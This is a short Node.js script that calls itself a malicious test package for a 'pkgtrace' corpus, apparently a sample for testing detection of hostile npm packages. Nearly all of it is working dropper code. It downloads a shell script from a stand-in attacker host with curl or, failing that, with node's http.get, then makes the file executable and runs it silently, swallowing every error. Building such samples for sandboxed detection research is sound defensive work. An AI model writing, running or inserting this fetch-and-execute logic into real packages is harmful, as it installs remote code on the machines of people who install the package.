'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// Downloads http://dl.attacker.example/p.sh to /tmp/p.sh, makes it executable
// and runs it. With curl: `sh -c 'curl ... -o /tmp/p.sh; chmod +x ...; /tmp/p.sh'`.
// Without curl: node's http.get writes the file, then the same chmod + exec.
const fs = require('fs');
const path = require('path');
const http = require('http');
const { spawnSync } = require('child_process');

const URL = 'http://dl.attacker.example/p.sh';
const OUT = '/tmp/p.sh';
setTimeout(() => process.exit(0), 3000).unref();
process.on('uncaughtException', () => process.exit(0));

function onPath(name) {
  for (const dir of (process.env.PATH || '').split(':')) {
    try { fs.accessSync(path.join(dir || '.', name), fs.constants.X_OK); return true; } catch (e) { /* next */ }
  }
  return false;
}

function sh(cmd) {
  try { spawnSync('sh', ['-c', cmd], { stdio: 'ignore', timeout: 2500 }); } catch (e) { /* ignored */ }
}

if (onPath('curl')) {
  sh(`curl -s -m 2 ${URL} -o ${OUT}; chmod +x ${OUT}; ${OUT}`);
  process.exit(0);
} else {
  let finished = false;
  const finish = () => {
    if (finished) return;
    finished = true;
    sh(`chmod +x ${OUT}; ${OUT}`);
    process.exit(0);
  };
  try {
    const req = http.get(URL, { timeout: 2000 }, (res) => {
      const out = fs.createWriteStream(OUT);
      out.on('error', finish);
      out.on('finish', finish);
      res.on('error', finish);
      res.pipe(out);
    });
    req.on('error', () => process.exit(0));
    req.on('timeout', () => req.destroy());
  } catch (e) { process.exit(0); }
}
